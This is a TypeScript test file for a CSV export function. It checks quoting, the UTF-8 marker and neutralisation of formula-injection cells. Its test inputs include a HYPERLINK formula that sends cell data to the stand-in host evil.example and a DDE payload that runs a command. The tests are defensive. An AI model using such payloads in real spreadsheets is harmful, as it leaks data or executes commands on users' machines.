import { describe, expect, test } from 'vitest';
import { csvText } from './csv.ts';

/** Text of the file, without the byte order mark. */
const written = (...rows: string[][]) => csvText(rows).slice(1);

/** Independent reader of CSV by RFC 4180. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, cell = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push(cell.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test('a table becomes lines of cells in quotes', () => {
  expect(written(['Fact', 'Ash'], ['Coins', 'BTC, ETH'])).toBe(
    '"Fact","Ash"\r\n"Coins","BTC, ETH"\r\n',
  );
});

test('the file says that it is UTF-8', () => {
  expect(new TextEncoder().encode(csvText([['é']])).slice(0, 3)).toEqual(
    new Uint8Array([0xef, 0xbb, 0xbf]),
  );
});

test('quotes are doubled, and line breaks stay inside their cell', () => {
  expect(written(['The "Ash"', 'a\r\nb'])).toBe('"The ""Ash""","a\r\nb"\r\n');
});

describe('a name that is a formula', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?x="&A1,"Ash")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('%j is text', (name) => {
    const [[cell] = []] = readCsv(written([name]));
    expect(cell).toBe(`'${name}`);
  });

  test('cannot leave its cell by its quotes', () => {
    const name = '","=1+1';
    expect(readCsv(written([name, 'Bay']))).toEqual([[name, 'Bay']]);
  });

  test('what only contains such a sign stays as it is', () => {
    const cells = ['Ash = Bay', '2 - 3 h', 'a@b', "'quoted'", '', ' =1+1'];
    expect(readCsv(written(cells))).toEqual([cells]);
  });
});
